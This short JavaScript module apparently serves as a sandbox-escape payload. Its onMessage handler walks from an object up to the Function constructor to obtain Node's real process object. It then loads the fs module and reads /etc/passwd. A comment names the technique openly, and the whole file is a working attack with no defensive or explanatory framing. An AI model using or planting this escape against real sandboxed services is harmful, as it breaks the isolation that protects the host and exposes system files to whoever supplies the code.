// Climb from an object to the Function constructor and ask it for process.
exports.onMessage = function () {
  const p = this.constructor.constructor("return process")();
  return p.mainModule.require("fs").readFileSync("/etc/passwd", "utf8");
};
